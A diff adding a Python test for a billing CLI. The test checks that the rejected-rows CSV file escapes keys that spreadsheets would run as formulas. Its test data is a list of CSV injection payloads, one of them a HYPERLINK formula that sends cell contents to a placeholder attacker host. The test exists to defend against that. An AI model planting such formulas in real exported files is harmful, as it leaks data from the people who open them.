@@ -92,6 +92,26 @@ async def test_a_row_that_is_not_utf8_is_rejected_and_a_bom_is_no_column(billing
     assert await count(billing_url, "SELECT count(*) FROM events") == 1
 
 
+async def test_the_error_file_never_hands_a_spreadsheet_a_formula(billing_url, tmp_path):
+    """A rejected row's field is the file's own text when the key is unknown: a key like
+    `=HYPERLINK(...)` went into the error file as a live formula for whoever opened it."""
+    hostile = ['=HYPERLINK("https://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)",
+               "\tcmd", "\rcmd"]
+    invoices = tmp_path / "invoices.jsonl"
+    invoices.write_text("".join(
+        json.dumps({"external_id": f"INV-{n}", "account_external_id": "CUS-1",
+                    "total_minor": 100, "issue_date": "2026-10-01", key: 1}) + "\n"
+        for n, key in enumerate(hostile)), encoding="utf-8")
+    errors = tmp_path / "rejected.csv"
+    done = await asyncio.to_thread(cli, billing_url, "invoices", str(invoices), "--quiet",
+                                   "--errors", str(errors))
+    assert done.returncode == 1, done.stderr
+    with errors.open(encoding="utf-8", newline="") as sink:
+        rows = list(csv.DictReader(sink))
+    assert sorted(r["field"] for r in rows) == sorted(f"'{key}" for key in hostile)
+    assert all(r["row"].isdigit() and r["line"].isdigit() for r in rows)
+
+
 # Runs the CLI and reports the process's peak resident memory in kB (Linux ru_maxrss).
 MEASURED = ("import resource, sys\n"
             "from billing_adapter.cli import app\n"
